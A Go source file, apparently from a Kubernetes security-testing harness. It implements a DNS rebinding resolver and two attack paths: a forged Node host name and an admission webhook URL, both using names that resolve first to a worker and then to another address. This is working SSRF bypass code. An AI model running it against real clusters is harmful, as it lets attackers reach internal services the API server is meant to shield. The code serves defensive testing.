package attack

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"sync"

	"golang.org/x/net/dns/dnsmessage"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	"k8s.io/utils/ptr"
)

// Resolver answers questions of DNS in the attacker's interest: a name is at the worker when it is looked up first, and
// elsewhere from then on.
type Resolver struct {
	first netip.Addr

	lock  sync.Mutex
	then  map[string]netip.Addr
	asked map[string]int
}

// NewResolver makes one whose names are at an address first.
func NewResolver(first netip.Addr) *Resolver {
	return &Resolver{first: first, then: map[string]netip.Addr{}, asked: map[string]int{}}
}

// Name makes a name that is at an address from the second question on.
func (r *Resolver) Name(name string, then netip.Addr) {
	r.lock.Lock()
	defer r.lock.Unlock()
	r.then[name+"."] = then
}

// Asked is how often a name was looked up.
func (r *Resolver) Asked(name string) int {
	r.lock.Lock()
	defer r.lock.Unlock()
	return r.asked[name+"."]
}

// Serve answers at a socket, until that is closed.
func (r *Resolver) Serve(socket net.PacketConn) {
	buffer := make([]byte, 1<<10)
	for {
		n, from, err := socket.ReadFrom(buffer)
		if err != nil {
			return
		}
		if answer, err := r.answer(buffer[:n]); err == nil {
			_, _ = socket.WriteTo(answer, from) // Who asked asks again.
		}
	}
}

func (r *Resolver) answer(question []byte) ([]byte, error) {
	var message dnsmessage.Message
	if err := message.Unpack(question); err != nil || len(message.Questions) != 1 {
		return nil, fmt.Errorf("a question that cannot be read: %w", err)
	}
	asked := message.Questions[0]
	message.Response, message.Authoritative, message.Additionals = true, true, nil
	r.lock.Lock()
	defer r.lock.Unlock()
	name := asked.Name.String()
	then, known := r.then[name]
	if !known {
		message.RCode = dnsmessage.RCodeNameError
		return message.Pack()
	}
	if asked.Type == dnsmessage.TypeA {
		address := then
		if r.asked[name]++; r.asked[name] == 1 {
			address = r.first
		}
		message.Answers = []dnsmessage.Resource{{
			Header: dnsmessage.ResourceHeader{Name: asked.Name, Class: dnsmessage.ClassINET}, Body: &dnsmessage.AResource{A: address.As4()},
		}}
	}
	return message.Pack()
}

// NamedWays are the ways that lead to what a name is at, by names that change between two questions.
func NamedWays(r *Resolver) []Way {
	named := func(take func(context.Context, *Attacker, string, uint16) (string, error)) func(context.Context, *Attacker, netip.AddrPort) (string, error) {
		return func(ctx context.Context, a *Attacker, to netip.AddrPort) (answer string, err error) {
			name := a.name("name") + ".example.com"
			r.Name(name, to.Addr())
			// Each is asked more than once, for a name that changes is at the worker the first time.
			for range 3 {
				answer, err = take(ctx, a, name, to.Port())
			}
			if r.Asked(name) == 0 {
				return answer, errors.Join(fmt.Errorf("%w: nobody looked up %s", errNotAsked, name), err)
			}
			if err == nil {
				return fmt.Sprintf("%s was looked up %d times: %s", name, r.Asked(name), answer), nil
			}
			return answer, fmt.Errorf("%s was looked up %d times: %w", name, r.Asked(name), err)
		}
	}
	return []Way{
		{"node proxy by a name that changes", "forges a Node with a host name that is at the worker first, and elsewhere then", false, named(ByName)},
		{"webhook by a name that changes", "an admission webhook with a URL whose name is at the worker first, and elsewhere then", false, named(webhookByName)},
	}
}

func webhookByName(ctx context.Context, a *Attacker, name string, port uint16) (string, error) {
	return a.called(ctx, admissionregistrationv1.WebhookClientConfig{URL: ptr.To(fmt.Sprintf("https://%s:%d/canary", name, port))})
}
